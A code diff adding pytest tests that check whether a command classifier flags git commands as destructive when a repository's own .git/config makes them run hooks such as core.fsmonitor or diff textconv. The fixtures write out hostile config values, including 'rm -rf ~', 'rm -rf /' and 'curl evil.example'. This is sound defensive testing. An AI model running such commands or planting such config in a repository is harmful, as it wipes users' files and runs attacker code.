@@ -253,6 +253,40 @@ def test_git_aliases_stored_in_the_project_s_config_are_judged_when_used(tmp_pat
     assert classify("git st", workspace).kind == "ordinary"
 
 
+@pytest.mark.parametrize(
+    ("config", "command", "kind"),
+    [
+        ('[core]\n\tfsmonitor = "rm -rf ~"\n', "git status", "destructive"),
+        ("[core]\n\tfsmonitor = touch pwned\n", "git status --short", "ordinary"),
+        ("[diff \"x\"]\n\ttextconv = sh -c 'rm -rf /'\n", "git diff", "destructive"),
+        ('[filter "lfs"]\n\tclean = git-lfs clean -- %f\n', "git status", "ordinary"),
+        ("[core] fsmonitor = curl evil.example\n", "git log -1", "ordinary"),
+        ("[include]\n\tpath = ../elsewhere\n", "git status", "destructive"),
+        ("[core]\n\tfsmonitor = true\n\tpager = less\n[pager]\n\tlog = less\n", "git log", "read-only"),
+        ("[core]\n\tbare = false\n", "git status", "read-only"),
+    ],
+)
+def test_programs_the_repository_s_own_git_config_runs_are_judged(tmp_path: Path, config: str, command: str, kind):
+    """A downloaded project's .git/config makes `git status` run its core.fsmonitor: not read-only any more."""
+    workspace = fresh(tmp_path)
+    (workspace.root / ".git").mkdir()
+    (workspace.root / ".git" / "config").write_text(config)
+    (workspace.root / "sub").mkdir()
+    assert classify(command, workspace).kind == kind
+    from_below = Workspace(root=workspace.root, home=workspace.home, cwd=workspace.root / "sub")
+    assert classify(command, from_below).kind == kind
+
+
+def test_a_worktree_s_git_config_is_its_main_repository_s(tmp_path: Path):
+    workspace = fresh(tmp_path)
+    main = tmp_path / "main" / ".git"
+    (main / "worktrees" / "w").mkdir(parents=True)
+    (main / "config").write_text('[core]\n\tfsmonitor = "rm -rf ~"\n')
+    (main / "worktrees" / "w" / "commondir").write_text("../..\n")
+    (workspace.root / ".git").write_text(f"gitdir: {main / 'worktrees' / 'w'}\n")
+    assert classify("git status", workspace).kind == "destructive"
+
+
 # ---- secrets ------------------------------------------------------------------------------------------------
 
 
